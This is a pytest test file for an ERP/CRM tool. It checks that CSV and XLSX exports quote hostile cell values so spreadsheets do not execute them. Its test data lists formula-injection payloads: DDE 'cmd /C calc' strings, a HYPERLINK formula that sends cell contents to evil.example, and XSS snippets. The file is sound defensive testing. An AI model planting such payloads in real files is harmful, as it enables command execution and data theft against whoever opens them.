"""Exports do not attack their reader: ERP text that a spreadsheet would run stays text, numbers stay numbers.

Each hostile value is written in a CSV and an XLSX file and read back as a spreadsheet
would see it: with openpyxl (the cell's type and value) and with the csv module. The
last tests run `erp-crm segments export` over a SQLite overlay whose partners have such
names, as an ERP user could type them.
"""

from __future__ import annotations

import csv
import datetime as dt
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest
import sqlalchemy as sa
from click.testing import CliRunner

from erp_crm.entrypoints.cli import cli
from erp_crm.model.tables.metrics import partner_metrics
from erp_crm.model.tables.synced import SYNCED
from erp_crm.reports.files import XLSX_CELL_CHARACTERS, write_table
from erp_crm.segments.definitions import SEGMENTS_FILE
from erp_crm.store.overlay import Overlay
from tests.support.homes import make_home
from tests.support.metrics_rows import metrics_row

LONG = "Hosszú név " * 10_000  # 110,000 characters
# value written → what a reader must find in the cell, per format (None: the value itself)
HOSTILE: dict[str, dict[str, str] | str | None] = {
    '=HYPERLINK("http://evil.example/?d="&A1,"Számla")': "'" + '=HYPERLINK("http://evil.example/?d="&A1,"Számla")',
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0": "'@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+1": "'=1+1",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")": "'=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "<script>alert('Kovács')</script>": None,
    "<img src=x onerror=alert(1)>": None,
    "Kovács\x00 Kft.": "Kovács\ufffd Kft.",
    "\x00=1+1": "\ufffd=1+1",
    "Bell\x07 és \x1b[31m": "Bell\ufffd és \ufffd[31m",
    "'=already quoted": None,
    "Sor\nújsor; \"idézet\"": None,
    "Alfa Kft.\r=cmd|' /C calc'!A0": None,  # a new row in Excel, starting with a formula, unless quoted
    "Alfa Kft.\n@SUM(1+9)*cmd|' /C calc'!A0": None,
    "Alfa Kft.;=1+1": None,
    "+36 1 234 5678": "'+36 1 234 5678",
    LONG: {"csv": LONG, "xlsx": LONG[:XLSX_CELL_CHARACTERS]},
    "Árvíztűrő Tükörfúrógép Kft.": None,
}
FORMATS = ("csv", "xlsx")


def _expected(value: str, fmt: str) -> str:
    wanted = HOSTILE[value]
    if wanted is None:
        wanted = value
    elif not isinstance(wanted, str):
        wanted = wanted[fmt]
    return wanted.replace("\r", "\n") if fmt == "xlsx" else wanted  # XML reads a line end as LF


def _frame(names: list[str]) -> pd.DataFrame:
    rows = len(names)
    return pd.DataFrame(
        {
            "name": names,
            "revenue_net": [-1234.5] * rows,
            "orders": [-3] * rows,
            "clv_12m": [Decimal("-99.25")] * rows,
            "p_alive": [None] * rows,
            "entered_at": [dt.datetime(2024, 6, 30, 8, 0)] * rows,
        }
    )


def _read(path: Path, fmt: str) -> list[list[Any]]:
    """The cells as a reader gets them: openpyxl's values (formulas would come back as '=...' of type f), or csv's."""
    if fmt == "csv":
        with path.open(encoding="utf-8-sig", newline="") as handle:
            return list(csv.reader(handle, delimiter=";"))
    sheet = openpyxl.load_workbook(path).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("value", list(HOSTILE), ids=lambda v: repr(v[:30]))
def test_hostile_text_is_written_as_text_a_spreadsheet_does_not_run(value: str, fmt: str, tmp_path: Path) -> None:
    path = tmp_path / f"members.{fmt}"
    write_table(_frame([value]), path, fmt)  # type: ignore[arg-type]
    header, row = _read(path, fmt)
    assert header == ["name", "revenue_net", "orders", "clv_12m", "p_alive", "entered_at"]
    assert row[0] == _expected(value, fmt)


def test_numbers_stay_numbers_and_negative_amounts_are_not_quoted(tmp_path: Path) -> None:
    write_table(_frame(["=1+1"]), tmp_path / "m.xlsx", "xlsx")
    write_table(_frame(["=1+1"]), tmp_path / "m.csv", "csv")
    cells = next(openpyxl.load_workbook(tmp_path / "m.xlsx").active.iter_rows(min_row=2))
    assert [c.data_type for c in cells[1:4]] == ["n", "n", "n"]
    assert [c.value for c in cells[1:4]] == [-1234.5, -3, -99.25]
    assert _read(tmp_path / "m.csv", "csv")[1][1:4] == ["-1234.5", "-3", "-99.25"]


def test_what_was_changed_is_counted_for_the_user(tmp_path: Path) -> None:
    names = ["=1+1", "Kovács\x00 Kft.", LONG, "Alfa Kft."]
    assert write_table(_frame(names), tmp_path / "m.csv", "csv").notes() == ["cells holding control characters, written as \ufffd: 1"]
    written = write_table(_frame(names), tmp_path / "m.xlsx", "xlsx")
    assert written.rows == 4 and (written.control_characters, written.cut) == (1, 1)


def test_the_caller_keeps_its_frame(tmp_path: Path) -> None:
    frame = _frame(["=1+1"])
    write_table(frame, tmp_path / "m.csv", "csv")
    assert frame["name"][0] == "=1+1"


def _overlay_home(tmp_path: Path, names: list[str]) -> Path:
    """A home on a SQLite overlay whose partners carry `names`, all of them members of the segment `everyone`."""
    url = f"sqlite:///{tmp_path / 'crm.sqlite'}"
    with Overlay.open(sa.engine.make_url(url), at_head=False) as overlay:
        overlay.upgrade()
        with overlay.begin() as conn:
            for n, name in enumerate(names):
                values = dict(source="t", erp_key=f"p{n}", name=name, phone="+36 1 234 5678", row_hash="x", synced_at=dt.datetime(2024, 1, 1))
                pid = conn.execute(sa.insert(SYNCED["partner"]).values(values).returning(SYNCED["partner"].c.id)).scalar_one()
                conn.execute(sa.insert(partner_metrics).values(metrics_row(pid, dt.date(2024, 6, 30), revenue_net=-50.5)))
    home = make_home(tmp_path, overlay_url=url)
    (home / SEGMENTS_FILE).write_text("segments:\n  everyone:\n    filter: revenue_net < 0\n", encoding="utf-8")
    return home


@pytest.mark.parametrize("fmt", FORMATS)
def test_segments_export_of_hostile_partner_names(fmt: str, tmp_path: Path) -> None:
    names = list(HOSTILE)
    home = _overlay_home(tmp_path, names)
    runner = CliRunner()
    assert runner.invoke(cli, ["--home", str(home), "segments", "refresh"]).exit_code == 0
    output = tmp_path / f"everyone.{fmt}"
    done = runner.invoke(cli, ["--home", str(home), "segments", "export", "everyone", "--format", fmt, "--output", str(output)])
    assert done.exit_code == 0, done.output
    header, *rows = _read(output, fmt)
    found = {row[header.index("name")] for row in rows}
    assert found == {_expected(v, fmt) for v in names}
    assert {row[header.index("phone")] for row in rows} == {"'+36 1 234 5678"}
    revenue = {row[header.index("revenue_net")] for row in rows}
    assert revenue == ({"-50.5"} if fmt == "csv" else {-50.5})
    assert ("cut at 32,767 characters" in done.output) == (fmt == "xlsx")
